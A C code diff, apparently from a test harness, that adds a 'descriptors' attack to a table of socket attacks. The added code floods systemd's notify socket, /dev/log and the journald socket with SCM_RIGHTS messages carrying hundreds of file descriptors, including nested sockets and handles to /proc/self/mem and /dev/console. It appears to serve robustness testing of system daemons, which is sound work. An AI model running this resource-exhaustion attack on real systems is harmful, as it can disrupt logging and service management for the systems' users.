@@ -7,6 +7,7 @@
 #include <fcntl.h>
 #include <netinet/in.h>
 #include <sys/socket.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 
 enum { LINGER_S = 3600 };
@@ -94,8 +95,66 @@ static void garbage_sockets(void)
     (void) pause(); /* and the other end stays */
 }
 
+enum { FDS_AT_ONCE = 253 }; /* the kernel's SCM_MAX_FD */
+
+static int send_fds(int socket, const struct sockaddr_un *to, int fd, size_t n)
+{
+    static union {
+        struct cmsghdr header;
+        char room[CMSG_SPACE(FDS_AT_ONCE * sizeof(int))];
+    } control;
+    struct iovec iov = { .iov_base = "STATUS=x", .iov_len = 8 };
+    struct msghdr message = { .msg_name = (void *) to,
+                              .msg_namelen = to ? sizeof(*to) : 0,
+                              .msg_iov = &iov,
+                              .msg_iovlen = 1,
+                              .msg_control = &control,
+                              .msg_controllen = CMSG_SPACE(n * sizeof(int)) };
+
+    control.header = (struct cmsghdr){ CMSG_LEN(n * sizeof(int)), SOL_SOCKET, SCM_RIGHTS };
+    for (size_t i = 0; i < n; i++)
+        memcpy(CMSG_DATA(&control.header) + i * sizeof(int), &fd, sizeof(int));
+    return sendmsg(socket, &message, MSG_DONTWAIT) < 0 ? -errno : 0;
+}
+
+/* One socket in the queue of the next, and so on. */
+static int make_nested(int fd, unsigned depth)
+{
+    for (; depth > 0; depth--) {
+        int pair[2];
+
+        if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, pair) < 0 || send_fds(pair[0], NULL, fd, 1) < 0)
+            return fd;
+        close(pair[0]);
+        close(fd);
+        fd = pair[1];
+    }
+    return fd;
+}
+
+/* Of all kinds, by each socket of ours that there is. */
+static void descriptors(void)
+{
+    static const char *const paths[] = { "/run/systemd/notify", "/dev/log", "/run/systemd/journal/socket" };
+    int socket_fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), peer;
+    const int fds[] = { make_lingering(&peer), make_nested(make_lingering(&peer), 3), open("/", O_PATH),
+                        open("/proc/self/mem", O_RDONLY), open("/dev/console", O_WRONLY | O_NONBLOCK) };
+
+    for (size_t i = 0; i < sizeof(paths) / sizeof(*paths); i++) {
+        struct sockaddr_un to = { .sun_family = AF_UNIX };
+
+        snprintf(to.sun_path, sizeof(to.sun_path), "%s", paths[i]);
+        for (unsigned round = 0; round < 100; round++)
+            for (size_t j = 0; j < sizeof(fds) / sizeof(*fds); j++)
+                (void) send_fds(socket_fd, &to, fds[j], round % 2 ? 1 : FDS_AT_ONCE);
+    }
+    for (size_t i = 0; i < sizeof(fds) / sizeof(*fds); i++)
+        close(fds[i]); /* whoever has it is the last */
+}
+
 const Attack sockets_attacks[] = {
     { "lingering", lingering },
     { "garbage-sockets", garbage_sockets },
+    { "descriptors", descriptors },
     {},
 };
